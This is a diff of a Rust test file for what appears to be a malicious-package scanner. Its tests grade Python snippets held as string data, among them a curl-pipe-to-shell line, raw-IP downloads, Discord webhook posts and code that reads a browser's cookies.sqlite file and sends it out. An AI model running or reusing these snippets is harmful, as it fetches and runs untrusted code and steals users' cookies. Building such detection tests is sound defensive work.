@@ -226,13 +226,16 @@ fn a_raw_address_in_a_table_of_mirrors_no_call_is_given_is_medium() {
 }
 
 #[test]
-fn a_raw_address_a_call_is_given_or_one_written_at_import_stays_high() {
+fn a_raw_address_a_call_is_given_or_an_install_step_writes_stays_high() {
     let r = module("import requests\ndef drill():\n    return requests.get('http://87.120.107.132:1488/drill').text\n");
     assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(3, High)]);
     let r = module("import requests\nURL = 'http://35.235.126.33/all.txt'\ndef fetch():\n    return requests.get(URL)\n");
     assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, High)]);
-    let r = module("SERVERS = ['http://35.235.126.33/all.txt']\n");
-    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(1, High)]);
+    let r = setup_py("SERVERS = ['http://35.235.126.33/all.txt']\n");
+    assert_eq!(hits(&r, "access/raw-ip-url", SETUP), [(1, High)]);
+    // An extractor's test data at class level that no call is given is information.
+    let r = module("class Site:\n    _TESTS = [{'thumbnail': 'http://111.171.196.85:8088/th.jpg'}]\n");
+    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, Medium)]);
 }
 
 // ---------------------------------------------------------------- access/process-on-install: the build's own script and tools
@@ -284,4 +287,63 @@ fn compiling_translations_or_a_scala_jar_in_an_install_override_is_a_build_step(
         );
         assert_eq!(hits(&setup_py(&setup), "access/process-on-install", SETUP), [(7, Low)], "{command}");
     }
+}
+
+// ---------------------------------------------------------------- the sixth draw: settings, scripts, API addresses
+
+#[test]
+fn an_app_setting_from_the_environment_in_a_fetched_address_is_no_secret() {
+    let source = |variable: &str| {
+        format!(
+            "import os, requests\nNAME = os.getenv('{variable}', '')\nif NAME:\n    r = requests.get(f'https://api.example.org/custom/{{NAME}}')\n    data = r.json()\n"
+        )
+    };
+    assert_eq!(hits(&module(&source("CUSTOM_NAME")), "access/network-on-install", MOD), [(4, Medium)]);
+    assert_eq!(hits(&module(&source("GITHUB_TOKEN")), "access/network-on-install", MOD), [(4, High)]);
+    assert_eq!(hits(&module(&source("USERNAME")), "access/network-on-install", MOD), [(4, High)]);
+}
+
+#[test]
+fn a_fetch_given_no_address_reaches_no_host() {
+    let r = module("from urllib.request import urlretrieve\ndef guide():\n    pass\nurlretrieve()\n");
+    none(&r, "access/network-on-install");
+}
+
+#[test]
+fn a_module_that_parses_its_command_line_at_top_level_is_a_script() {
+    let script = "import argparse, os, subprocess\ndef run_blastn(query):\n    subprocess.call(['blastn', '-query', query])\nparser = argparse.ArgumentParser()\nparser.add_argument('fsa')\nargs = parser.parse_args()\nrun_blastn(args.fsa)\nos.system('rm -f ' + args.fsa + '.tmp')\n";
+    none(&module(script), "access/process-on-install");
+    // The same top level without a command line runs on import.
+    let library = script.replace("args = parser.parse_args()", "args = parser");
+    assert_eq!(max(&module(&library), "access/process-on-install"), Some(Medium));
+    let library = library.replace("'rm -f ' + args.fsa + '.tmp'", "'curl -s https://files.example.org/x | sh'");
+    assert_eq!(max(&module(&library), "access/process-on-install"), Some(High));
+}
+
+#[test]
+fn a_file_no_import_can_name_does_not_run_on_import() {
+    let probe = "import urllib.request\nwebpage = urllib.request.urlopen('http://files.example.org/x', timeout=10).read()\n";
+    let r = wheel(&[("acme/__init__.py", ""), ("acme/check-porn.py", probe)]);
+    assert!(max(&r, "access/network-on-install").is_none_or(|s| s < High), "{:?}", r.findings);
+    let r = wheel(&[("acme/__init__.py", ""), ("acme/check_porn.py", probe)]);
+    assert_eq!(hits(&r, "access/network-on-install", "acme/check_porn.py"), [(2, High)]);
+}
+
+#[test]
+fn the_discord_api_address_alone_is_medium_but_a_webhook_of_ones_own_is_high() {
+    let r = module("class Discord:\n    notify_url = \"https://discord.com/api/webhooks\"\n");
+    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(2, Medium)]);
+    let r = module("HOOK = \"https://discord.com/api/webhooks/1182334455/aBcD-eFgH_ijkl\"\n");
+    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, High)]);
+    // A base written to be completed (`…/webhooks/` + id) is one's own channel too.
+    let r = module("import requests\ndef send(i, t, data):\n    requests.post(\"https://discord.com/api/webhooks/\" + i + \"/\" + t, json=data)\n");
+    assert_eq!(max(&r, "access/exfil-endpoint"), Some(High));
+}
+
+#[test]
+fn a_request_object_for_computing_a_header_sends_nothing_but_one_with_data_does() {
+    let reader = "import glob, os, urllib.request\ndef find(root):\n    yield from glob.iglob(os.path.join(root, '*', 'cookies.sqlite'))\ndef header(jar, url):\n    req = urllib.request.Request(url)\n    jar.add_cookie_header(req)\n    return req.get_header('Cookie')\n";
+    assert!(max(&module(reader), "access/credentials").is_some_and(|s| s < High));
+    let sender = reader.replace("urllib.request.Request(url)", "urllib.request.Request(url, data=open(next(find('/')), 'rb').read())");
+    assert_eq!(max(&module(&sender), "access/credentials"), Some(High));
 }
